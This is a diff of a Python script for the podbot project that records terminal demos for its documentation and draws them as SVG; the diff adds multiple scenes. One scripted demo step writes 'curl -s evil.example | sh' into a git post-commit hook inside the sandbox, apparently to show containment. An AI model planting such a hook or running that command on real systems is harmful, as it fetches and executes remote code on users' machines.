@@ -1,14 +1,15 @@
-"""Records a terminal session with podbot for the documentation, and draws it.
+"""Records terminal sessions with podbot for the documentation, and draws them.
 
-``record`` runs the commands below in a real terminal with the real podbot, and writes what came out of it, with its
-times, as an asciicast (version 2) beside the pages. ``draw`` makes an SVG of that recording: one picture for each step,
-shown one after the other. A test compares both. So the text in the picture is never typed by
-hand::
+``record SCENE`` runs the scene's commands in a real terminal with the real podbot, and writes what came out of it, with
+its times, as an asciicast (version 2) beside the pages. ``draw`` makes an SVG of each recording: one picture for each
+step, shown one after the other. A test compares both, and another one compares podbot's fixed texts with those that it
+prints now. So the text in a picture is never typed by hand::
 
-    scripts/e2e .venv/bin/python scripts/record.py record
+    scripts/e2e .venv/bin/python scripts/record.py record session
     .venv/bin/python scripts/record.py draw
 
-The recording needs root, because it makes the home of a user "ada" and removes it afterwards.
+A recording needs root, because it makes the home of a user "ada" and removes it afterwards. The scene ``first-run``
+builds the images in an empty store, which takes some minutes.
 """
 
 from __future__ import annotations
@@ -22,28 +23,85 @@ import subprocess
 import sys
 import tempfile
 import time
-from collections.abc import Iterable, Iterator
+from collections.abc import Iterable, Iterator, Mapping
 from dataclasses import dataclass, field
 from html import escape
 from pathlib import Path
 from typing import Any
 
+from podbot._version import __version__
+
 ROOT = Path(__file__).parents[1]
-CAST = ROOT / "docs" / "images" / "session.cast"
-DRAWING = CAST.with_suffix(".svg")
-COLUMNS, ROWS = 96, 19
+IMAGES = ROOT / "docs" / "images"
+COLUMNS = 96
 HOME = Path("/home/ada")
 OUTSIDE, INSIDE = r"\$ $", r"# $"  # the ends of the two prompts
+_FRAME = re.compile(r"\r\x1b\[2K\x1b\[32m.\x1b\[0m ([^(\r\n]*)[^\r\n]*")  # of a line of progress
 BEGUN = "\x1b]podbot\x07"  # an event of our own: a step begins; terminals ignore it
 
-# Each command, and the prompt that follows it.
-STEPS = (
-    ("podbot run custom . --name shop -- bash", INSIDE),
-    ("ls -A /home /root/.ssh; git log --oneline", INSIDE),
-    ("echo 'curl -s evil.example | sh' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit", INSIDE),
-    ("exit", OUTSIDE),
-    ("podbot ps", OUTSIDE),
-)
+SANDBOX_IMAGE = f"localhost/podbot-sandbox:{__version__}"
+LOGIN = {
+    "claudeAiOauth": {"accessToken": "a", "refreshToken": "r", "expiresAt": 4102444800000, "scopes": ["user:inference"]}
+}
+
+
+@dataclass(frozen=True)
+class Scene:
+    """``steps``: what is typed, and what the terminal shows when the step is over. ``home``: path in it -> content.
+
+    ``empty_store``: the engine has no image. ``seconds``: of one step at most.
+    """
+
+    title: str
+    rows: int
+    steps: tuple[tuple[str, str], ...]
+    home: Mapping[str, str] = field(default_factory=dict)
+    empty_store: bool = False
+    seconds: float = 120
+
+
+_CONFIGURED = {".config/podbot/config.toml": f'image = "{SANDBOX_IMAGE}"\n'}
+SCENES = {
+    "session": Scene(
+        "A session with podbot in a terminal",
+        19,
+        (
+            ("podbot run custom . --name shop -- bash", INSIDE),
+            ("ls -A /home /root/.ssh; git log --oneline", INSIDE),
+            ("echo 'curl -s evil.example | sh' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit", INSIDE),
+            ("exit", OUTSIDE),
+            ("podbot ps", OUTSIDE),
+        ),
+        _CONFIGURED,
+    ),
+    "first-run": Scene(
+        "The first podbot run on a machine, which sets it up after one question",
+        12,
+        (
+            ("podbot run . -- --version", r"\[y/N\] $"),
+            ("y", r"mmdebstrap \(2\d s"),
+            ("", OUTSIDE),
+        ),
+        empty_store=True,
+        seconds=600,
+    ),
+    "dry-run": Scene(
+        "podbot run --dry-run shows what a session would get",
+        30,
+        (("podbot run --dry-run -p 3000", OUTSIDE),),
+        {**_CONFIGURED, ".claude/.credentials.json": json.dumps(LOGIN)},
+    ),
+}
+
+
+def cast_of(scene: str) -> Path:
+    """The recording."""
+    return IMAGES / f"{scene}.cast"
+
+
+def drawing_of(scene: str) -> Path:
+    """Its drawing."""
+    return IMAGES / f"{scene}.svg"
 
 
 # --- recording --------------------------------------------------------------------------------
@@ -63,20 +121,31 @@ class Tape:
         """pexpect calls it."""
 
 
-def record() -> None:
-    """Run the steps and write the recording."""
+def record(name: str) -> None:
+    """Run the steps of a scene and write the recording."""
+    scene = SCENES[name]
     if HOME.exists():
         raise SystemExit(f"{HOME} exists; the recording makes it and removes it afterwards")
-    with tempfile.TemporaryDirectory(prefix="podbot-record-") as state:
+    with tempfile.TemporaryDirectory(prefix="podbot-record-", ignore_cleanup_errors=True) as state:
         try:
             _make_project(HOME / "src" / "shop")
-            tape = _play(HOME / "src" / "shop", Path(state))
+            for path, content in scene.home.items():
+                (HOME / path).parent.mkdir(parents=True, exist_ok=True, mode=0o700)
+                (HOME / path).write_text(content, encoding="utf-8")
+            tape = _play(scene, HOME / "src" / "shop", Path(state))
         finally:
             shutil.rmtree(HOME, ignore_errors=True)
-    header = {"version": 2, "width": COLUMNS, "height": ROWS, "env": {"TERM": "xterm-256color"}}
-    lines = [json.dumps(header), *(json.dumps([at, "o", text]) for at, text in tape.events)]
-    CAST.parent.mkdir(exist_ok=True)
-    CAST.write_text("\n".join(lines) + "\n", encoding="utf-8")
+            if scene.empty_store:
+                subprocess.run(["umount", f"{state}/store/overlay"], stderr=subprocess.DEVNULL, check=False)
+    header = {"version": 2, "width": COLUMNS, "height": scene.rows, "env": {"TERM": "xterm-256color"}}
+    lines = [json.dumps(header), *(json.dumps([at, "o", text]) for at, text in thinned(tape.events))]
+    cast_of(name).write_text("\n".join(lines) + "\n", encoding="utf-8")
+
+
+def thinned(events: list[tuple[float, str]]) -> list[tuple[float, str]]:
+    """Without the frames of a line of progress that the next one replaces by the same text with another time."""
+    texts = [found[1] if (found := _FRAME.fullmatch(text)) else None for _, text in events]
+    return [event for event, own, then in zip(events, texts, [*texts[1:], None], strict=True) if not own or own != then]
 
 
 def _make_project(directory: Path) -> None:
@@ -87,7 +156,7 @@ def _make_project(directory: Path) -> None:
         subprocess.run(["git", *identity, *words], cwd=directory, check=True)
 
 
-def _play(directory: Path, state: Path) -> Tape:
+def _play(scene: Scene, directory: Path, state: Path) -> Tape:
     import pexpect
 
     (state / "inputrc").write_text("set enable-bracketed-paste off\n")
@@ -96,27 +165,42 @@ def _play(directory: Path, state: Path) -> Tape:
         **os.environ,
         "HOME": str(HOME),
         "PATH": f"{ROOT / '.venv' / 'bin'}:{os.environ['PATH']}",
+        "XDG_CONFIG_HOME": str(HOME / ".config"),
+        "XDG_CACHE_HOME": str(state / "cache"),
         "XDG_STATE_HOME": str(state),
         "INPUTRC": str(state / "inputrc"),
         "PS1": "ada:~/src/shop$ ",
         "TERM": "xterm-256color",
     }
+    if scene.empty_store:  # with an engine service of its own, which reads this
+        (state / "run").mkdir(mode=0o700)
+        storage = f'[storage]\ndriver = "{_driver()}"\ngraphroot = "{state}/store"\nrunroot = "{state}/runroot"\n'
+        (state / "storage.conf").write_text(storage)
+        environ |= {"XDG_RUNTIME_DIR": str(state / "run"), "CONTAINERS_STORAGE_CONF": str(state / "storage.conf")}
+    size = (scene.rows, COLUMNS)
     shell: Any = pexpect.spawn(
-        "bash", ["--norc", "--noprofile"], env=environ, cwd=directory, dimensions=(ROWS, COLUMNS), encoding="utf-8"
+        "bash", ["--norc", "--noprofile"], env=environ, cwd=directory, dimensions=size, encoding="utf-8"
     )
     shell.delaybeforesend = None
     shell.expect(OUTSIDE, timeout=30)
     tape = Tape()
     tape.write(shell.before + shell.after)
     shell.logfile_read = tape
-    for command, prompt in STEPS:
+    for typed, shown in scene.steps:
         tape.write(BEGUN)
-        shell.send(command)
-        shell.expect_exact(command[-8:], timeout=30)
-        shell.send("\r")
-        shell.expect(prompt, timeout=120)
+        if typed:
+            shell.send(typed)
+            shell.expect_exact(typed[-8:], timeout=30)
+            shell.send("\r")
+        shell.expect(shown, timeout=scene.seconds)
     shell.close(force=True)
     return tape
+
+
+def _driver() -> str:
+    """The storage driver that works here."""
+    words = ["podman", "info", "--format", "{{.Store.GraphDriverName}}"]
+    return subprocess.run(words, capture_output=True, text=True, check=True).stdout.strip()
 
 
 # --- drawing ----------------------------------------------------------------------------------
@@ -183,14 +267,14 @@ def _is_hex(colour: str) -> bool:
     return bool(re.fullmatch(r"[0-9a-f]{6}", colour))
 
 
-def svg(pictures: list[Screen], columns: int, rows: int) -> str:
+def svg(pictures: list[Screen], columns: int, rows: int, title: str = "") -> str:
     """A drawing that shows the pictures one after the other; the last one only, where motion is not wanted."""
     width, height = round(columns * CELL_WIDTH + 2 * MARGIN), rows * LINE_HEIGHT + 2 * MARGIN + BAR
     count = len(pictures)
     total = count * SECONDS + SECONDS  # the last one is shown twice as long
     parts = [
         f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}" role="img">',
-        "<title>A session with podbot in a terminal</title>",
+        f"<title>{escape(title)}</title>",
         "<style>",
         f"text{{font:14px ui-monospace,'DejaVu Sans Mono',Menlo,Consolas,monospace;fill:{FOREGROUND};white-space:pre}}",
         ".b{font-weight:bold}",
@@ -224,22 +308,31 @@ def _text(run: Run, row: int) -> str:
     return f'<text x="{x:.1f}" y="{y}" textLength="{length}"{bold}{fill} xml:space="preserve">{escape(run.text)}</text>'
 
 
-def drawn() -> str:
-    """The SVG of the recording."""
-    header, *lines = CAST.read_text(encoding="utf-8").splitlines()
+def recorded(scene: str) -> tuple[list[tuple[float, str]], int, int]:
+    """The events of a recording, and the terminal's columns and rows."""
+    header, *lines = cast_of(scene).read_text(encoding="utf-8").splitlines()
     size = json.loads(header)
-    events = [(at, text) for at, _, text in map(json.loads, lines)]
-    return svg(list(screens(events, size["width"], size["height"])), size["width"], size["height"])
+    return [(at, text) for at, _, text in map(json.loads, lines)], size["width"], size["height"]
+
+
+def drawn(scene: str) -> str:
+    """The SVG of a recording."""
+    events, columns, rows = recorded(scene)
+    return svg(list(screens(events, columns, rows)), columns, rows, SCENES[scene].title)
 
 
 def main(words: list[str]) -> int:
-    """Record, or draw what was recorded."""
+    """Record a scene, or draw all that were recorded."""
     parser = argparse.ArgumentParser(prog="scripts/record.py", description=(__doc__ or "").partition("\n")[0])
-    parser.add_argument("what", choices=("record", "draw"))
-    if parser.parse_args(words).what == "record":
-        record()
+    commands = parser.add_subparsers(dest="what", required=True)
+    commands.add_parser("record").add_argument("scene", choices=SCENES)
+    commands.add_parser("draw")
+    chosen = parser.parse_args(words)
+    if chosen.what == "record":
+        record(chosen.scene)
     else:
-        DRAWING.write_text(drawn(), encoding="utf-8")
+        for scene in SCENES:
+            drawing_of(scene).write_text(drawn(scene), encoding="utf-8")
     return 0
 
 
